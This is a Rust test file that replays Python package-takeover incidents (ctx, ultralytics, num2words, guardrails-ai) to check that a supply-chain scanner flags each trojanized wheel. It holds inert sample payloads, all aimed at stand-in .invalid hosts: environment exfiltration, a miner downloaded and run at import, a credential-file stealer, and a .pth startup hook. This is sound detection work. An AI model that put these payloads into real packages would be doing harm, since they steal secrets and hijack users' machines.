//! Incident replays: for each Python takeover shape, a previous-good wheel built here, an inert
//! trojanized next version (only `.invalid` hosts, nothing runs: the code is only parsed) and a
//! version-only control. Every trojan must get a deny-level finding; every control none.

use std::io::{Cursor, Write};

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use sha2::Digest;
use turncoat_archive::{Limits, read_wheel};
use turncoat_finding::{Finding, Level};
use turncoat_pyanalyze::{DiffContext, DistFacts, diff, rules, wheel_facts};

/// A real wheel: the files, `METADATA`, `WHEEL` and a correct `RECORD`.
fn build_wheel(name: &str, version: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let dist_info = format!("{name}-{version}.dist-info");
    let mut all: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(p, d)| ((*p).to_string(), d.as_bytes().to_vec()))
        .collect();
    all.push((
        format!("{dist_info}/METADATA"),
        format!(
            "Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nRequires-Dist: requests\n\n"
        )
        .into_bytes(),
    ));
    all.push((
        format!("{dist_info}/WHEEL"),
        b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
    ));
    let mut record = String::new();
    for (p, d) in &all {
        record.push_str(&format!(
            "{p},sha256={},{}\n",
            URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(d)),
            d.len()
        ));
    }
    record.push_str(&format!("{dist_info}/RECORD,,\n"));
    all.push((format!("{dist_info}/RECORD"), record.into_bytes()));
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (p, d) in &all {
        w.start_file(p.as_str(), opts).unwrap();
        w.write_all(d).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn facts(name: &str, version: &str, files: &[(&str, &str)]) -> DistFacts {
    let bytes = build_wheel(name, version, files);
    let wheel = read_wheel(&bytes, &Limits::default()).unwrap();
    assert!(wheel.record_issues.is_empty(), "{:?}", wheel.record_issues);
    wheel_facts(&wheel)
}

fn denied(f: &[Finding]) -> Vec<&Finding> {
    let docs = rules();
    f.iter()
        .filter(|x| {
            docs.iter()
                .find(|d| d.code == x.code)
                .is_some_and(|d| d.default_level == Level::Deny)
        })
        .collect()
}

/// Judge good → trojan and good → control; return the trojan's deny findings.
fn replay<'a>(
    name: &str,
    versions: (&str, &str),
    good: &[(&'a str, &'a str)],
    trojan: &[(&'a str, &'a str)],
) -> Vec<Finding> {
    let (from, to) = versions;
    let old = facts(name, from, good);
    let bad = facts(name, to, trojan);
    let control = facts(name, to, good);
    let ctx = DiffContext::new(name, from, to);
    let clean = diff(&old, &control, &ctx);
    assert!(
        denied(&clean).is_empty(),
        "control of {name} denied: {clean:#?}"
    );
    let f = diff(&old, &bad, &ctx);
    let d: Vec<Finding> = denied(&f).into_iter().cloned().collect();
    assert!(!d.is_empty(), "trojan of {name} passed: {f:#?}");
    d
}

const CTX_GOOD: &str = r#"
class Ctx(dict):
    """A dict whose items are also attributes."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)

    def __getattr__(self, key):
        try:
            return self[key]
        except KeyError as e:
            raise AttributeError(key) from e

    def __setattr__(self, key, value):
        self[key] = value
"#;

/// ctx 0.2.6 (2022): the constructor sent the environment to a web endpoint.
const CTX_TROJAN: &str = r#"
import os
import requests

class Ctx(dict):
    """A dict whose items are also attributes."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.sendRequest(str(os.environ.items()))

    def sendRequest(self, env):
        url = "https://anti-theft-web.invalid/hacked/"
        requests.get(url + env)

    def __getattr__(self, key):
        try:
            return self[key]
        except KeyError as e:
            raise AttributeError(key) from e

    def __setattr__(self, key, value):
        self[key] = value
"#;

#[test]
fn ctx_environment_sent_from_the_constructor() {
    let d = replay(
        "ctx",
        ("0.1.2", "0.2.6"),
        &[("ctx.py", CTX_GOOD)],
        &[("ctx.py", CTX_TROJAN)],
    );
    assert!(d.iter().any(|f| f.code == "py-env-exfiltration"), "{d:#?}");
}

const ULTRA_INIT: &str = r#"
__version__ = "8.3.40"
from ultralytics.utils import SETTINGS
from ultralytics.models import YOLO
__all__ = "__version__", "YOLO", "SETTINGS"
"#;

const ULTRA_UTILS: &str = r#"
import os
from pathlib import Path
SETTINGS = {"datasets_dir": str(Path.home() / "datasets")}
"#;

const ULTRA_MODELS: &str = r#"
from ultralytics.utils.downloads import attempt_download_asset

class YOLO:
    def __init__(self, model="yolo11n.pt"):
        self.ckpt = attempt_download_asset(model)
"#;

const ULTRA_DOWNLOADS: &str = r#"
import requests
from pathlib import Path

def attempt_download_asset(file, repo="ultralytics/assets"):
    url = f"https://github.com/{repo}/releases/download/v8.3.0/{file}"
    r = requests.get(url, timeout=30)
    Path(file).write_bytes(r.content)
    return file
"#;

/// ultralytics 8.3.41 (2024): built by a poisoned CI, it fetched and started a miner when
/// imported. Here the payload sits in `downloads.py` and the package's `utils/__init__.py`
/// calls it at import.
const ULTRA_DOWNLOADS_TROJAN: &str = r#"
import os
import subprocess
import requests
from pathlib import Path

def attempt_download_asset(file, repo="ultralytics/assets"):
    url = f"https://github.com/{repo}/releases/download/v8.3.0/{file}"
    r = requests.get(url, timeout=30)
    Path(file).write_bytes(r.content)
    return file

def safe_run():
    p = Path("/tmp/.ultralytics_runner")
    p.write_bytes(requests.get("https://miner.invalid/xmrig", timeout=30).content)
    os.chmod(p, 0o755)
    subprocess.Popen([str(p), "-o", "pool.invalid:3333"], stdout=subprocess.DEVNULL)
"#;

const ULTRA_UTILS_TROJAN: &str = r#"
import os
from pathlib import Path
from .downloads import safe_run
SETTINGS = {"datasets_dir": str(Path.home() / "datasets")}
safe_run()
"#;

#[test]
fn ultralytics_download_and_run_at_import() {
    let good = [
        ("ultralytics/__init__.py", ULTRA_INIT),
        ("ultralytics/utils/__init__.py", ULTRA_UTILS),
        ("ultralytics/utils/downloads.py", ULTRA_DOWNLOADS),
        ("ultralytics/models/__init__.py", ULTRA_MODELS),
    ];
    let trojan = [
        ("ultralytics/__init__.py", ULTRA_INIT),
        ("ultralytics/utils/__init__.py", ULTRA_UTILS_TROJAN),
        ("ultralytics/utils/downloads.py", ULTRA_DOWNLOADS_TROJAN),
        ("ultralytics/models/__init__.py", ULTRA_MODELS),
    ];
    let d = replay("ultralytics", ("8.3.40", "8.3.41"), &good, &trojan);
    assert!(d.iter().any(|f| f.code == "py-download-exec"), "{d:#?}");
}

const N2W_GOOD: &str = r#"
from . import lang_EN, lang_FR

CONVERTER_CLASSES = {"en": lang_EN.Num2Word_EN(), "fr": lang_FR.Num2Word_FR()}

def num2words(number, ordinal=False, lang="en", to="cardinal", **kwargs):
    converter = CONVERTER_CLASSES[lang]
    return converter.to_cardinal(number)
"#;

/// num2words 0.5.15 (2025) and guardrails-ai (2026): a patch release's `__init__.py` gathers
/// tokens and cloud keys at import and posts them.
const N2W_TROJAN: &str = r#"
from . import lang_EN, lang_FR
import os as _o, json as _j, urllib.request as _u

def _collect():
    found = {k: v for k, v in _o.environ.items() if "TOKEN" in k or "KEY" in k}
    for p in ("~/.aws/credentials", "~/.pypirc", "~/.config/gh/hosts.yml"):
        try:
            found[p] = open(_o.path.expanduser(p)).read()
        except OSError:
            pass
    req = _u.Request("https://telemetry.num2words.invalid/v1", data=_j.dumps(found).encode())
    _u.urlopen(req, timeout=3)

try:
    _collect()
except Exception:
    pass

CONVERTER_CLASSES = {"en": lang_EN.Num2Word_EN(), "fr": lang_FR.Num2Word_FR()}

def num2words(number, ordinal=False, lang="en", to="cardinal", **kwargs):
    converter = CONVERTER_CLASSES[lang]
    return converter.to_cardinal(number)
"#;

const LANG: &str = "class Num2Word_EN:\n    def to_cardinal(self, n):\n        return str(n)\n";
const LANG_FR: &str = "class Num2Word_FR:\n    def to_cardinal(self, n):\n        return str(n)\n";

#[test]
fn num2words_credential_stealer_in_a_patch_release() {
    let good = [
        ("num2words/__init__.py", N2W_GOOD),
        ("num2words/lang_EN.py", LANG),
        ("num2words/lang_FR.py", LANG_FR),
    ];
    let trojan = [
        ("num2words/__init__.py", N2W_TROJAN),
        ("num2words/lang_EN.py", LANG),
        ("num2words/lang_FR.py", LANG_FR),
    ];
    let d = replay("num2words", ("0.5.14", "0.5.15"), &good, &trojan);
    assert!(d.iter().any(|f| f.code == "py-env-exfiltration"), "{d:#?}");
    assert!(d.iter().any(|f| f.code == "py-sensitive-read"), "{d:#?}");
}

#[test]
fn guardrails_stealer_hidden_in_a_pth() {
    let good = [
        ("guardrails/__init__.py", "from .guard import Guard\n"),
        ("guardrails/guard.py", "class Guard:\n    pass\n"),
    ];
    let trojan = [
        ("guardrails/__init__.py", "from .guard import Guard\n"),
        ("guardrails/guard.py", "class Guard:\n    pass\n"),
        (
            "guardrails/_telemetry.py",
            "import os, socket\n_s = socket.create_connection(('collect.guardrails.invalid', 443))\n_s.sendall(repr(dict(os.environ)).encode())\n",
        ),
        ("guardrails_ai.pth", "import guardrails._telemetry\n"),
    ];
    let d = replay("guardrails-ai", ("0.6.6", "0.6.7"), &good, &trojan);
    assert!(d.iter().any(|f| f.code == "py-pth-exec"), "{d:#?}");
    assert!(d.iter().any(|f| f.code == "py-env-exfiltration"), "{d:#?}");
}
